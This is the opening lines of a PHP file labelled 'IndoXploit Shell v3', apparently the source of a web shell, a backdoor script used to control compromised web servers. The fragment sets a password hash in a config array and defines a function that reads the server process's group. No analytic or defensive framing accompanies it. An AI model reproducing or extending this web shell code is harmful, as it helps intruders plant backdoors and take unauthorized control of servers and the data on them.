<?php
// IndoXploit Shell v3
$IDX_Config = array('pass' => '6d4c56afb8e5b1c1f59d2e7f4c3b2a11');
function usergroup() { return posix_getgrgid(posix_getegid()); }
